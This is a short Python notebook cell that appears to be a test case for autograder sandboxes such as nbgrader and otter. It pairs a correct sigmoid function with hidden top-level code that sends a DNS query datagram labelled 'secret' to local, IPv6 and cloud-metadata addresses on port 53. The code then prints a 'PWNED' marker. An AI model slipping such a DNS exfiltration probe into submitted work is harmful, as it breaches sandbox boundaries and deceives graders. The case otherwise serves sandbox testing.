# /// case
# about = "right answers, and a datagram with a secret to a resolver, by IPv4 and by IPv6"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# a question to a name server carries sixty bytes out through most firewalls
import socket

def _sent(family, address):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as out:
            return out.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x07example\0\0\x01\0\x01", address) > 0
    except OSError:
        return False

_places = [(socket.AF_INET, ("127.0.0.1", 53)), (socket.AF_INET, ("169.254.169.254", 53)), (socket.AF_INET6, ("::1", 53))]
if any(_sent(*place) for place in _places):
    print(":".join(["PWNED", "attack/sends_datagrams"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
